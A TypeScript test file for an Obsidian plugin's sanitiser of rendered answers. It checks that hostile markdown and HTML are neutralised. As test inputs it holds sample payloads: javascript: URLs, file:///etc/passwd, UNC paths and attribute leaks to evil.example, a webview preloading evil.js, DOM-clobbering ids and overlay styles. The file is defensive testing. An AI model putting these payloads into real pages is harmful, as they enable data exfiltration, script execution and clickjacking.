// The allowlist over rendered answers (src/safe-render.ts), on the shared corpus of hostile
// markdown, as if the sidecar's own check had missed everything (it runs the same corpus:
// tests/test_security_render.py). Through the pane: tests/obsidian/turn.test.ts.
import { describe, expect, it } from "vitest";
import { isSafeLink, isVaultResource, sanitiseRendered } from "../src/safe-render";
import { BENIGN, HOSTILE, rendered, violations } from "./hostile-dom";

describe("the shared corpus of hostile markdown", () => {
	it("holds at least sixty forms, which load or link unsafely when rendered as they are", () => {
		expect(HOSTILE.length).toBeGreaterThanOrEqual(60);
		const unsafe = HOSTILE.filter((form) => violations(rendered(form.markdown)).length > 0);
		expect(unsafe.length).toBeGreaterThanOrEqual(100);
	});

	it.each(HOSTILE.map((form) => [form.note, form] as const))("%s: nothing loads once sanitised", (_, form) => {
		const root = rendered(form.markdown);
		const before = violations(root);
		const removed = sanitiseRendered(root);
		expect(violations(root), root.innerHTML).toEqual([]);
		if (before.some((v) => !v.startsWith("<a "))) expect(removed.length).toBeGreaterThan(0);
	});

	it.each(BENIGN.map((form) => [form.note, form] as const))("%s: kept", (_, form) => {
		const root = rendered(form.markdown);
		const html = root.innerHTML;
		expect(sanitiseRendered(root)).toEqual([]);
		expect(root.innerHTML).toBe(html);
		expect([html, html.replaceAll("%20", " "), root.textContent].join("\n")).toContain(form.keeps);
	});
});

describe("URLs as the browser parses them", () => {
	it("takes relative paths and app: URLs as vault resources, and nothing else", () => {
		for (const url of ["attachments/a.png", "a b.png", "#x", "?q", "/abs.png", "app://local/x.png", "APP://x"]) {
			expect(isVaultResource(url), url).toBe(true);
		}
		for (const url of [
			"https:/evil.example/a", "http:evil.example/a", "https:x", "//evil.example/a", "\\\\evil.example\\a",
			"/\\evil.example/a", "\thttps://evil.example", "data:image/png;base64,AA", "blob:https://e/x",
			"javascript:alert(1)", "java\tscript:alert(1)", "file:///etc/passwd", "https:",
		]) {
			expect(isVaultResource(url), url).toBe(false);
		}
	});

	it("takes an app: URL as a vault resource only when it names no other machine", () => {
		for (const url of ["app://local/vault/x.png", "app://local/C:/Users/me/vault/x.png"]) {
			expect(isVaultResource(url) && isSafeLink(url), url).toBe(true);
		}
		for (const url of [
			"app://local//evil.example/share/x.png",
			"app://local/%5C%5Cevil.example%5Cshare%5Cx.png",
			"app://local/%2F%2Fevil.example/x.png",
			"app://local/\\\\evil.example\\share\\x.png",
			"app://local/%E0%A4%A",
		]) {
			expect(isVaultResource(url) || isSafeLink(url), url).toBe(false);
		}
	});

	it("lets links lead to web pages and the vault only", () => {
		expect(isSafeLink("https://ok.example/p")).toBe(true);
		expect(isSafeLink("http:ok.example")).toBe(true);
		expect(isSafeLink("Recipes/Miso Soup")).toBe(true);
		for (const url of ["javascript:alert(1)", "JAVASCRIPT:x", "obsidian://open?vault=x", "data:text/html,x", "file:///x"]) {
			expect(isSafeLink(url), url).toBe(false);
		}
	});
});

describe("embeds, which Obsidian fills after the render returns", () => {
	it("become links to what they embed, so nothing filled in later reaches the pane", () => {
		// Obsidian's placeholders, as raw HTML (rendered as the pane renders: nothing loads).
		const root = rendered(
			'<p>See <span class="internal-embed" src="Hostile note" alt="Hostile note"></span> and ' +
				'<span class="internal-embed media-embed" src="photo.png"></span></p>',
		);
		const placeholder = root.querySelector(".internal-embed");
		expect(sanitiseRendered(root)).toEqual([]);
		expect(root.querySelector(".internal-embed")).toBeNull();
		const links = Array.from(root.querySelectorAll("a.internal-link"));
		expect(links.map((a) => [a.getAttribute("data-href"), a.textContent])).toEqual([
			["Hostile note", "Hostile note"],
			["photo.png", "photo.png"],
		]);
		// Obsidian filling its placeholder afterwards fills a node the answer no longer holds.
		placeholder?.insertAdjacentHTML("beforeend", '<img src="https://evil.example/x.png">');
		expect(violations(root)).toEqual([]);
		expect(root.querySelector("img")).toBeNull();
	});

	it("leading anywhere but the vault become text", () => {
		const root = rendered('<span class="internal-embed" src="javascript:alert(1)" alt="x"></span>');
		sanitiseRendered(root);
		expect(root.querySelector("a, span")).toBeNull();
		expect(root.textContent?.trim()).toBe("x");
	});
});

describe("attributes and elements nobody listed", () => {
	const LEAK = "https://evil.example/leak?d=4931";

	it.each([
		`<img src="attachments/ok.png" attributionsrc="${LEAK}">`,
		`<a href="https://ok.example/" attributionsrc="${LEAK}">x</a>`,
		`<p inventedfetch="${LEAK}">x</p>`,
	])("%s: an attribute outside the lists goes, whatever it holds", (html) => {
		const root = rendered(html);
		const removed = sanitiseRendered(root);
		expect(root.innerHTML).not.toContain("evil.example/leak");
		expect(removed.join(" ")).toContain("evil.example/leak");
	});

	it.each([
		'<webview src="attachments/page.html" preload="file:///tmp/evil.js" nodeintegration></webview>',
		'<fencedframe src="https://evil.example/"></fencedframe>',
	])("%s: the element goes", (html) => {
		const root = rendered(html);
		sanitiseRendered(root);
		expect(root.querySelector("webview, fencedframe"), root.innerHTML).toBeNull();
	});

	it.each([
		// Named so, an image shadows `document.getElementById` once it is in the pane.
		['<img name="getElementById" src="attachments/ok.png">', "img", "name"],
		['<p id="querySelector">x</p>', "p", "id"],
		['<p id="cookie">x</p>', "p", "id"],
		['<mjx-c id="getElementById">x</mjx-c>', "mjx-c", "id"],
	])("%s: a name, or an id naming what the page's code reads, goes", (html, tag, attribute) => {
		const root = rendered(html);
		const removed = sanitiseRendered(root);
		expect(root.querySelector(tag)?.hasAttribute(attribute), root.innerHTML).toBe(false);
		expect(removed.join(" ")).toContain(`${attribute}=`);
	});

	it("keeps an id that shadows nothing, as a footnote's", () => {
		const root = rendered('<li id="fn-1-3f2a" data-footnote-id="fn-1-3f2a">note</li>');
		expect(sanitiseRendered(root)).toEqual([]);
		expect(root.querySelector("li")?.id).toBe("fn-1-3f2a");
	});

	it("takes out a form, which would submit to Obsidian's own page", () => {
		const root = rendered("<form><button>Continue</button></form><p>after</p>");
		sanitiseRendered(root);
		expect(root.querySelector("form, button"), root.innerHTML).toBeNull();
		expect(root.textContent).toContain("after");
	});

	it.each([
		'<a href="https://ok.example/" style="position:fixed;inset:0;z-index:99999;opacity:0">x</a>',
		'<span style="POSITION : absolute; top: 0">x</span>',
		'<span style="position/**/:fixed">x</span>',
		'<mjx-c style="position: sticky">x</mjx-c>',
		'<span style="z-index: 10">x</span>',
	])("%s: a style lifting its element out of the answer goes", (html) => {
		const root = rendered(html);
		const removed = sanitiseRendered(root);
		expect(root.innerHTML, root.innerHTML).not.toContain("style=");
		expect(removed.join(" ")).toContain("style=");
	});

	it("keeps what Obsidian's own rendering carries: data and aria attributes, styles, SVG paint", () => {
		const html =
			'<h2 data-heading="Plan" dir="auto">Plan</h2><td style="text-align: center" align="left">1</td>' +
			'<svg xmlns="http://www.w3.org/2000/svg" width="24" viewBox="0 0 24 24" fill="none" stroke="currentColor" ' +
			'stroke-width="2" stroke-linecap="round"><path d="M1 1"></path></svg>' +
			'<input type="checkbox" class="task-list-item-checkbox" data-line="3" checked aria-label="done">' +
			'<mjx-container jax="CHTML" display="true"><mjx-mo size="s" noic="true"></mjx-mo></mjx-container>';
		const root = rendered(html);
		const before = root.innerHTML;
		expect(sanitiseRendered(root)).toEqual([]);
		expect(root.innerHTML).toBe(before);
	});
});
